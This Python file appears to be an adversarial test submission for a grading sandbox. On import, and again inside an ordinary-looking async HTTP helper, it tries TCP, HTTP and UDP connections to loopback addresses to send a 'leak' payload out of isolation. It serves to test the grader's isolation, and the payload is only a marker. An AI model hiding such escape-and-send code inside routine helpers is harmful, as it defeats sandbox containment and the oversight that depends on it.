# ruff: noqa
"""Attack: reach a server on the host's loopback and send it data; otherwise the reference."""

import asyncio
import socket
import urllib.request

import aiohttp

PORT = int("@@PORT@@")
PAYLOAD = b"grader-adversarial-exfiltration\r\n"
HOSTS = ["127.0.0.1", "localhost", "::1", "0.0.0.0", "127.1.2.3"]
TRIED = []


def knock():
    for host in HOSTS:
        try:
            with socket.create_connection((host, PORT), timeout=1) as sock:
                sock.sendall(PAYLOAD)
                TRIED.append(f"{host}: sent")
        except OSError as exc:
            TRIED.append(f"{host}: {exc}")
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/?leak=1", data=PAYLOAD, timeout=1)
    except Exception as exc:
        TRIED.append(f"urllib: {exc}")
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.sendto(PAYLOAD, ("127.0.0.1", PORT))
        sock.close()
    except OSError as exc:
        TRIED.append(f"udp: {exc}")


async def knock_async():
    for host in ("127.0.0.1", "localhost"):
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, PORT), 1)
            writer.write(PAYLOAD)
            await writer.drain()
            writer.close()
        except Exception as exc:
            TRIED.append(f"async {host}: {exc!r}")


knock()
print("\n".join(TRIED))


async def req(url, params=None, headers=None, response_type="json"):
    if response_type not in ("json", "text"):
        raise ValueError(f"unknown response_type: {response_type!r}")
    await knock_async()
    async with aiohttp.ClientSession() as session:
        async with session.get(url, params=params, headers=headers) as response:
            response.raise_for_status()
            if response_type == "json":
                return await response.json()
            return await response.text()
